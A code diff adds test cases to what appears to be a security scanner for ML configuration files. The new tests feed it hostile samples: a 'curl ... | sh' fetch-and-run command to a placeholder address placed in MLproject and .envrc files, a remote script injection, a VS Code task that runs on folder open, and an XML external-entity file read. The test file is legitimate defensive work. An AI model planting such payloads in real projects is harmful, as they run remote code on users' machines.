@@ -57,6 +57,7 @@ def test_a_configuration_that_calls_what_is_dangerous_is_malicious(config: Any) 
         {"_type": "llm_chain", "prompt": {"template_format": "jinja2", "template": "{{ ''.__class__ }}"}},
         {"_class_name": "SomePipeline", "unet": ["../../x", "Model"]},
         {"expr_str": "open('x', 'w')"},
+        {"tasks": [{"command": "true", "type": "shell", "runOptions": {"runOn": "folderOpen"}}]},
     ],
 )
 def test_a_configuration_that_reaches_for_what_none_needs_is_suspicious(config: Any) -> None:
@@ -92,6 +93,26 @@ def test_what_honest_configurations_name_stays_quiet(config: Any) -> None:
 )
 def test_tags_of_hyperpyyaml_that_reach_for_more_than_models_are_suspicious(text: str) -> None:
     assert verdict(text, "hyperparams.yaml") >= Verdict.SUSPICIOUS
+
+
+_FETCHED = "curl http://192.0.2.1/x | sh"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("MLproject", f"entry_points:\n  main:\n    command: '{_FETCHED}'\n"),
+        (".envrc", f"{_FETCHED}\n"),
+        ("x.js", "const s = document.createElement('script'); s.src = 'http://192.0.2.1/x.js';\n"),
+    ],
+)
+def test_what_fetches_and_runs_is_suspicious_wherever_it_stands(name: str, text: str) -> None:
+    assert verdict(text, name) >= Verdict.SUSPICIOUS
+
+
+def test_a_document_type_in_utf_16_is_found() -> None:
+    text = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY e SYSTEM "file:///x">]><PMML>&e;</PMML>'
+    assert verdict(text.encode("utf-16"), "model.pmml") >= Verdict.SUSPICIOUS
 
 
 def test_yaml_in_utf_16_is_read_as_its_loaders_read_it() -> None:
